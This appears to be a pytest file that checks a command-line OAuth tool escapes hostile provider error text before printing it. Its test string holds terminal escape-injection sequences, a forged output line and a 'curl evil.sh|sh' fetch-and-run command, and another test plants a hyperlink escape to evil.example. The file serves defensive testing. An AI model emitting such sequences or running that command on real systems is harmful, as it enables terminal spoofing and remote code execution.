"""SECURITY.md 7: a provider's words reach a terminal only escaped, whichever command shows them.

Each command runs as a person runs it, with no logging configured, against the session's
sandbox, whose fault injection makes the provider answer 400 with an ``error_description``
full of terminal controls: an OSC window title ended by BEL, CSI sequences (ESC ``[`` and
the one-byte C1 form), CR/LF starting a fake line, a right-to-left override. Nothing of it
may reach stderr or stdout raw. The commands run in this process (``invoke``): what they
write to stdout and stderr, and their log records as Python's last resort prints them in a
process that configures no logging.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from flowengine_sandbox.faults import Fault
from flowengine_sandbox.settings import SandboxApp
from tests.cli.conftest import Ran, invoke
from tests.conftest import SandboxFixture

HOSTILE = "bad \x1b]0;PWNED\x07\x1b[2J\x9b31m\u202e\r\nFAKE: run curl evil.sh|sh"
#: What the terminal must never get: C0 controls but for the final newline, DEL, C1, bidi controls.
_RAW = {chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))} - {"\n"} | {"\u202e", "\u202d", "\u2066"}


def _hostile_answer(sandbox: SandboxFixture, *paths: str) -> None:
    body = json.dumps({"error": "invalid_request", "error_description": HOSTILE})
    sandbox.settings.faults.add(
        Fault("respond", paths=paths, status=400, content_type="application/json", body=body, times=1)
    )


def _flowengine(sandbox: SandboxFixture, store: str, *args: str) -> Ran:
    env = {"FLOWENGINE_SANDBOX_URL": sandbox.server.url, "FLOWENGINE_STORE": store}
    return invoke(*args, env=env, logs="unconfigured")


def _assert_escaped(done: Ran) -> None:
    shown = done.stdout + done.stderr
    raw = sorted({repr(c) for c in shown if c in _RAW})
    assert not raw, f"raw terminal controls on the terminal: {raw}\n{shown!r}"
    lines = shown.splitlines()
    assert not any(line.startswith("FAKE") for line in lines), shown  # no line of the provider's making


@pytest.fixture
def store(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'tokens.db'}"


def test_sec7_login_device_shows_the_device_endpoints_words_escaped(
    sandbox: SandboxFixture, store: str
) -> None:
    _hostile_answer(sandbox, "/_e/")

    done = _flowengine(sandbox, store, "login", "google", "--sandbox", "--device")

    assert done.returncode == 4
    _assert_escaped(done)
    assert "the device authorization endpoint answered 400: invalid_request" in done.stderr
    assert "bad \\x1b]0;PWNED\\x07" in done.stderr  # the words are shown, escaped


def test_sec7_tokens_refresh_shows_the_token_endpoints_words_escaped(
    sandbox: SandboxFixture, store: str
) -> None:
    assert _flowengine(sandbox, store, "login", "podio", "--sandbox").returncode == 0
    _hostile_answer(sandbox, "/oauth/token")

    done = _flowengine(sandbox, store, "tokens", "refresh", "podio:user:1001", "--sandbox")

    assert done.returncode == 4
    _assert_escaped(done)
    assert "the token endpoint answered 400: invalid_request (bad \\x1b]0;PWNED" in done.stderr


def test_sec7_flows_and_tokens_show_a_hostile_token_answer_escaped(
    sandbox: SandboxFixture, store: str
) -> None:
    """The granted scope and the account come from the provider's answer: shown escaped."""
    answer = {
        "access_token": "A" * 20, "token_type": "bearer", "expires_in": 3600, "refresh_token": "R" * 20,
        "scope": HOSTILE, "ref": {"type": "user", "id": "7\x1b]8;;https://evil.example\x07"},
    }  # fmt: skip
    sandbox.settings.faults.add(
        Fault("respond", paths=("/oauth/token",), status=200, body=json.dumps(answer), times=1)
    )
    login = _flowengine(sandbox, store, "login", "podio", "--sandbox")
    assert login.returncode == 0, login.stderr
    _assert_escaped(login)
    [flow] = json.loads(_flowengine(sandbox, store, "flows", "list", "--json").stdout)
    [token] = json.loads(_flowengine(sandbox, store, "tokens", "list", "--json").stdout)

    for done in (
        _flowengine(sandbox, store, "flows", "show", flow["id"]),
        _flowengine(sandbox, store, "tokens", "show", token["key"]),
        _flowengine(sandbox, store, "flows", "list"),
        _flowengine(sandbox, store, "status"),
        _flowengine(sandbox, store, "tokens", "list"),
    ):
        assert done.returncode == 0, done.stderr
        _assert_escaped(done)
    assert "PWNED" in done.stdout  # tokens list: the account


@pytest.mark.parametrize("progress", ["lines", "none"])
def test_sec7_batch_grant_shows_the_token_endpoints_words_escaped(
    sandbox: SandboxFixture, store: str, tmp_path: Path, progress: str
) -> None:
    sandbox.settings.apps[3000] = SandboxApp(3000, "app-token-3000")
    apps = tmp_path / "apps.csv"
    apps.write_text("app_id,app_token\n3000,app-token-3000\n")
    _hostile_answer(sandbox, "/oauth/token")

    done = _flowengine(
        sandbox, store, "batch", "grant", "podio-app", str(apps), "--sandbox", "--progress", progress,
        "--report", "-",
    )  # fmt: skip

    assert done.returncode == 4
    _assert_escaped(done)
    [item] = json.loads(done.stdout)["items"]
    assert item["error"] == "provider_error" and HOSTILE in item["message"]  # JSON keeps the words, escaped
